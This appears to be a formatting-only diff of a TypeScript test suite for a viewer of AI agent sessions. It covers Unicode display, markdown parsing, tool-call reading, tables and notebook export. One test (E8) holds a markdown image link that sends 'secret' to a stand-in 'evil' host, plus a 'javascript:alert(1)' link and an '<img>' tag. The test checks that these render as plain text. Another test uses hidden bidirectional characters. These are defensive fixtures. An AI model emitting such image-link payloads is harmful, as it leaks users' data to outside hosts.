@@ -23,7 +23,11 @@ describe('text of programs', () => {
   });
   test('E6: bidirectional, invisible and tag characters are written out', () => {
     const text = 'ac\u202ecess\u200b = "\u{e0041}"';
-    expect(visible(text).map((piece) => piece.text).join('')).toBe('ac\\u{202e}cess\\u{200b} = "\\u{e0041}"');
+    expect(
+      visible(text)
+        .map((piece) => piece.text)
+        .join(''),
+    ).toBe('ac\\u{202e}cess\\u{200b} = "\\u{e0041}"');
     expect(visible(text).filter((piece) => piece.hidden)).toHaveLength(3);
     expect(visible('plain 文字 é 🙂')).toEqual([{ text: 'plain 文字 é 🙂', hidden: false }]);
     const shown = highlightPython('x = 1 # \u202e').flat();
@@ -43,7 +47,12 @@ describe('code', () => {
     expect(lines[0]?.find((piece) => piece.text === 'def')?.style).toBe('k');
   });
   test('difference of lines', () => {
-    expect(difference('a\nb\nc', 'a\nx\nc').map((line) => `${line.kind[0]}${line.text}`)).toEqual(['sa', 'rb', 'ax', 'sc']);
+    expect(difference('a\nb\nc', 'a\nx\nc').map((line) => `${line.kind[0]}${line.text}`)).toEqual([
+      'sa',
+      'rb',
+      'ax',
+      'sc',
+    ]);
     expect(difference('same', 'same')).toEqual([{ kind: 'same', text: 'same' }]);
   });
 });
@@ -51,14 +60,22 @@ describe('code', () => {
 describe('answers', () => {
   test('E8: images and links stay text', () => {
     const [block] = readMarkdown('![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>');
-    expect(block).toEqual({ kind: 'paragraph', inside: [{ kind: 'text', text: '![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>' }] });
+    expect(block).toEqual({
+      kind: 'paragraph',
+      inside: [{ kind: 'text', text: '![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>' }],
+    });
   });
   test('lists, tables, code, emphasis', () => {
-    const kinds = readMarkdown('# T\n\nA **b** `c`\n\n- x\n- y\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx\n```').map((block) => block.kind);
+    const kinds = readMarkdown(
+      '# T\n\nA **b** `c`\n\n- x\n- y\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx\n```',
+    ).map((block) => block.kind);
     expect(kinds).toEqual(['heading', 'paragraph', 'list', 'table', 'code']);
   });
   test('a value has its evidence where it stands, and not inside of a longer one', () => {
-    const evidence = [{ value: '42', seen: { kind: 'output' as const, step: 1, line: '42', rounded: false } }, { value: '421.5' }];
+    const evidence = [
+      { value: '42', seen: { kind: 'output' as const, step: 1, line: '42', rounded: false } },
+      { value: '421.5' },
+    ];
     const pieces = withEvidence('It is 42, not 421.5, 1421 or 0.42.', evidence);
     expect(pieces.filter((piece) => piece.evidence).map((piece) => piece.text)).toEqual(['42', '421.5']);
     expect(pieces.map((piece) => piece.text).join('')).toBe('It is 42, not 421.5, 1421 or 0.42.');
@@ -68,21 +85,46 @@ describe('answers', () => {
 describe('replies, before the service says how they were understood', () => {
   test('in each dialect', () => {
     const code = { tool: 'python', arguments: { code: 'print(1)' } };
-    expect(readReply('fenced_code', 'So.\n```python\nprint(1)\n```\n', [])).toEqual({ thought: 'So.', calls: [code], answer: null });
+    expect(readReply('fenced_code', 'So.\n```python\nprint(1)\n```\n', [])).toEqual({
+      thought: 'So.',
+      calls: [code],
+      answer: null,
+    });
     expect(readReply('fenced_code', 'So.\nFINAL: 42', [])).toEqual({ thought: 'So.', calls: [], answer: '42' });
-    expect(readReply('json_action', '{"thought":"So.","action":"execute_code","code":"print(1)"}', [])).toEqual({ thought: 'So.', calls: [code], answer: null });
-    expect(readReply('tags', 'So.\n<execution-code>\nprint(1)\n</execution-code>', [])).toEqual({ thought: 'So.', calls: [code], answer: null });
-    expect(readReply('native_tools', 'So.', [{ name: 'python', arguments: '{"code":"print(1)"}' }])).toEqual({ thought: 'So.', calls: [code], answer: null });
+    expect(readReply('json_action', '{"thought":"So.","action":"execute_code","code":"print(1)"}', [])).toEqual({
+      thought: 'So.',
+      calls: [code],
+      answer: null,
+    });
+    expect(readReply('tags', 'So.\n<execution-code>\nprint(1)\n</execution-code>', [])).toEqual({
+      thought: 'So.',
+      calls: [code],
+      answer: null,
+    });
+    expect(readReply('native_tools', 'So.', [{ name: 'python', arguments: '{"code":"print(1)"}' }])).toEqual({
+      thought: 'So.',
+      calls: [code],
+      answer: null,
+    });
   });
   test('as far as they have come', () => {
-    expect(readReply('native_tools', '', [{ name: 'python', arguments: '{"code": "a\\nb' }]).calls[0]?.arguments['code']).toBe('a\nb');
+    expect(
+      readReply('native_tools', '', [{ name: 'python', arguments: '{"code": "a\\nb' }]).calls[0]?.arguments['code'],
+    ).toBe('a\nb');
     expect(readReply('fenced_code', 'So.\n```python\npri', []).calls[0]?.arguments['code']).toBe('pri');
     expect(readReply('json_action', '{"thought": "Let me', []).thought).toBe('Let me');
   });
 });
 
 describe('tables', () => {
-  const table = readTable(JSON.stringify({ columns: [{ name: 'n', dtype: 'int' }], index: [0, 1, 2], rows: [[10], [null], [9]], total_rows: 3 }));
+  const table = readTable(
+    JSON.stringify({
+      columns: [{ name: 'n', dtype: 'int' }],
+      index: [0, 1, 2],
+      rows: [[10], [null], [9]],
+      total_rows: 3,
+    }),
+  );
   test('are sorted by numbers, what is missing last', () => {
     if (!table) throw new Error('no table');
     expect(sortedRows(table, 0, false)).toEqual([2, 0, 1]);
@@ -95,7 +137,13 @@ describe('tables', () => {
     expect(odd?.rows).toEqual([['[object Object]']]);
   });
   test('separated values, with quotes and other separators', () => {
-    expect(readSeparated('a;b\n1;"x;""y"""\n2;\n')).toMatchObject({ rows: [[1, 'x;"y"'], [2, null]], totalRows: 2 });
+    expect(readSeparated('a;b\n1;"x;""y"""\n2;\n')).toMatchObject({
+      rows: [
+        [1, 'x;"y"'],
+        [2, null],
+      ],
+      totalRows: 2,
+    });
     expect(readSeparated('a,b\r\n1,2\r\n')?.columns.map((column) => column.name)).toEqual(['a', 'b']);
     expect(readSeparated('just text\nmore')).toBeNull();
   });
@@ -105,7 +153,10 @@ describe('tables', () => {
     expect(made?.rows[0]).toEqual(['a', 3, '2023-11-14 22:13:20']);
     expect(tableOf({ codes: { unauthorized: 2 } })?.rows).toEqual([['unauthorized', 2]]);
     expect(tableOf({ codes: {} })?.rows).toEqual([]);
-    expect(tableOf({ draining: false, version: '1' })?.rows).toEqual([['draining', false], ['version', '1']]);
+    expect(tableOf({ draining: false, version: '1' })?.rows).toEqual([
+      ['draining', false],
+      ['version', '1'],
+    ]);
   });
 });
 
@@ -124,7 +175,9 @@ describe('displays', () => {
   });
   test('a real frame is a table, a real figure an image', () => {
     const { steps } = stepsOf('region');
-    const kinds = steps.flatMap((step) => step.calls.flatMap((call) => (call.outcome?.displays ?? []).map((display) => shownOf(display)?.kind)));
+    const kinds = steps.flatMap((step) =>
+      step.calls.flatMap((call) => (call.outcome?.displays ?? []).map((display) => shownOf(display)?.kind)),
+    );
     expect(kinds).toEqual(['table', 'table', 'image']);
   });
   test('an address in an image can not leave it', () => {
@@ -135,7 +188,12 @@ describe('displays', () => {
 
 test('a session becomes a notebook', () => {
   const outcome = stepsOf('region').steps[0]?.calls[0]?.outcome ?? null;
-  const made = JSON.parse(notebookOf([{ code: 'x', outcome }, { code: null, outcome }])) as { cells: { outputs: unknown[]; execution_count: number }[]; nbformat: number };
+  const made = JSON.parse(
+    notebookOf([
+      { code: 'x', outcome },
+      { code: null, outcome },
+    ]),
+  ) as { cells: { outputs: unknown[]; execution_count: number }[]; nbformat: number };
   expect(made.nbformat).toBe(4);
   expect(made.cells).toHaveLength(1);
   expect(made.cells[0]?.execution_count).toBe(1);
